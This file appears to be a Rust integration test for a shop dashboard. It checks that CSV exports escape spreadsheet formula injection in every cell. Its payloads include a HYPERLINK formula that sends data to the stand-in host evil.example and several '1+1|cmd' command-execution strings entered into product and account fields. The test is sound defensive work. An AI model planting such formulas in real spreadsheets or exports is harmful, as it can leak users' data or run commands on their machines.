//! Files for spreadsheets: no cell calculates, whatever somebody has written into it.

use std::collections::BTreeSet;

use connect_tests::data::DataFolder;
use http::StatusCode;

use super::super::{
    PROGRAM,
    browser::text,
    filled::{fill, serve},
};

/// A formula that sends what it is about to a site.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x\")";

/// Another where there is little room.
const SHORT: &str = "=1+1|cmd";

/// The beginnings of formulas besides `=`.
const STARTS: [&str; 3] = ["+", "-", "@"];

/// Returns whether a spreadsheet takes a cell for a text or a number.
fn is_plain(cell: &str) -> bool {
    let is_number = || cell.replace(',', ".").parse::<f64>().is_ok();
    match cell.chars().next() {
        Some('=' | '+' | '@' | '\t' | '\r' | '\n') => false,
        Some('-') => is_number(),
        _ => true,
    }
}

#[tokio::test]
async fn no_cell_of_a_file_is_a_formula() {
    let data = DataFolder::new(PROGRAM, "account");
    let server = serve(&data).await;
    let email = "formula@shops.example";
    let mut shop = fill(&data, &server, FORMULA, SHORT, email).await;
    for start in STARTS {
        let name = format!("{start}1+1|cmd");
        shop.browser.read("/dashboard/products?edit=new").await;
        let fields = [
            ("name", &*name),
            ("barcode", &name),
            ("priceCents", "1"),
            ("vatRate", "9"),
        ];
        let made = shop.browser.submit("/dashboard/products/new", &fields);
        assert_eq!(made.await.status, StatusCode::SEE_OTHER, "{name}");
    }
    for (language, separator) in [("en", b','), ("nl", b';')] {
        shop.browser.read("/dashboard/account").await;
        let own = [("name", FORMULA), ("language", language)];
        let saved = shop.browser.submit("/dashboard/account/profile", &own);
        assert_eq!(saved.await.status, StatusCode::SEE_OTHER);
        let (mut files, mut cells) = (BTreeSet::new(), 0);
        for path in shop.pages() {
            let page = shop.browser.read(&path).await;
            let Some((before, _)) = page.split_once("format=csv\"") else {
                continue;
            };
            let address = before.rsplit('"').next().unwrap().replace("&amp;", "&");
            if !files.insert(address.clone()) {
                continue;
            }
            let file = text(&shop.browser.open(&format!("{address}format=csv")).await);
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .has_headers(false)
                .flexible(true)
                .from_reader(file.trim_start_matches('\u{FEFF}').as_bytes());
            for line in reader.records() {
                for cell in &line.unwrap() {
                    assert!(is_plain(cell), "{address}: {cell:?}");
                    let is_marked = STARTS.iter().chain(&["="]).any(|start| {
                        cell.strip_prefix('\'')
                            .is_some_and(|rest| rest.starts_with(start))
                    });
                    cells += usize::from(is_marked);
                }
            }
        }
        let files = files.len();
        assert!(files >= 10 && cells >= 20, "{files} files, {cells} cells");
    }
    server.kill().await;
}
